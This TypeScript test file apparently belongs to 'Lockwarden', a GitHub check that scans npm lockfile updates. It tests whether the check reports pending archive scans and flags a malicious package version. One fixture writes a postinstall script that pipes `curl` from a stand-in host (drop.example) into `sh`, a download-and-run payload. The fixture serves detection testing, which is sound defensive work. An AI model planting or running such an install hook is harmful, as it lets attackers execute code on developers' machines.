import type { CheckRun, Pull, RepositoryHandle } from '../fakes/github/index.ts';
import type { FakeNpmRegistry } from '../fakes/npm-registry.ts';
import { startNpmRegistry } from '../fakes/npm-registry.ts';
import { calm, expectOrder, openHouse, patience, until, verdictOn } from './house.ts';
import type { House } from './house.ts';

describe('archives that take long', () => {
  let npm: FakeNpmRegistry;
  let house: House;
  let shop: RepositoryHandle;
  let release: () => void;
  let first: CheckRun;
  let pull: Pull;

  function lock(version: string): string {
    const resolved = `${npm.url}parcel-of-words/-/parcel-of-words-${version}.tgz`;
    const entry = { version, resolved, integrity: npm.integrity('parcel-of-words', version) };
    const root = { name: 'shop', dependencies: { 'parcel-of-words': '^1.0.0' } };
    const packages = { '': root, 'node_modules/parcel-of-words': entry };
    return JSON.stringify({ name: 'shop', lockfileVersion: 3, packages }, null, 2);
  }

  beforeAll(async () => {
    npm = await startNpmRegistry();
    const quiet = { 'index.js': 'module.exports = (words) => words.join(" ");\n' };
    const early = `require('child_process').exec('curl -s https://drop.example/x.sh | sh');\n`;
    for (const [version, at, files] of [
      ['1.0.0', '2023-01-01T00:00:00.000Z', quiet],
      ['1.0.1', '2024-01-01T00:00:00.000Z', quiet],
      ['1.0.2', '2026-09-01T00:00:00.000Z', { ...quiet, 'setup.js': early }],
    ] as const) {
      const scripts = { postinstall: 'node setup.js' };
      npm.publish({ name: 'parcel-of-words', version, at, files, ...(version === '1.0.2' ? { scripts } : {}) });
    }
    house = await openHouse({ environment: { LOCKWARDEN_NPM_REGISTRY: npm.url } });
    shop = house.github.repository('acme/shop', { files: { 'package-lock.json': lock('1.0.0') } });
    release = npm.hold(({ path }) => path.endsWith('.tgz'));
    pull = shop.openPullRequest({ files: { 'package-lock.json': lock('1.0.2') } });
    await shop.deliver.pullRequest(pull, 'opened');
    first = await until(() => shop.checkRuns(pull)[0], 'a check run', 30_000);
  }, patience);

  afterAll(async () => {
    release();
    await house.close();
    await npm.close();
  }, patience);

  it('are said to be on their way in a check that has not ended', () => {
    expect(first).toMatchObject({ name: 'Lockwarden', status: 'in_progress' });
    expect(first.conclusion ?? undefined).toBeUndefined();
    expect(first.title).toContain('the archives of 1 package are still being looked into');
    expect(first.summary).toContain('Not finished');
    expect(first.summary).toContain('install script');
    expect(first.annotations).toEqual([]);
    expect(shop.comments(pull)).toEqual([]);
  });

  it(
    'end that very check with what they hold',
    async () => {
      release();
      const run = await verdictOn(shop, pull);
      await calm(house);
      expect(run.id).toBe(first.id);
      expect(run.conclusion).toBe('failure');
      expect(run.title).toBe('1 blocking, 0 to review, 1 changed');
      expect(run.text).toContain('download-and-run');
      expect(run.annotations).toHaveLength(1);
      expect(shop.comments(pull)).toHaveLength(1);
      expectOrder(house.github, shop, pull);
    },
    patience,
  );

  it(
    'leave no open check behind on a commit that is not the newest any more',
    async () => {
      release = npm.hold(({ path }) => path.endsWith('.tgz'));
      const other = shop.openPullRequest({ files: { 'package-lock.json': lock('1.0.1') } });
      const old = other.headSha;
      await shop.deliver.pullRequest(other, 'opened');
      await until(() => shop.checkRuns(old)[0], 'a check run', 30_000);
      shop.push(other, { 'README.md': 'Words.\n' });
      release();
      await shop.deliver.pullRequest(other, 'synchronize');
      expect(await verdictOn(shop, other)).toMatchObject({ conclusion: 'success' });
      await calm(house);
      expect(shop.checkRuns(old)).toMatchObject([{ status: 'completed', conclusion: 'action_required' }]);
      expectOrder(house.github, shop, other);
    },
    patience,
  );
});
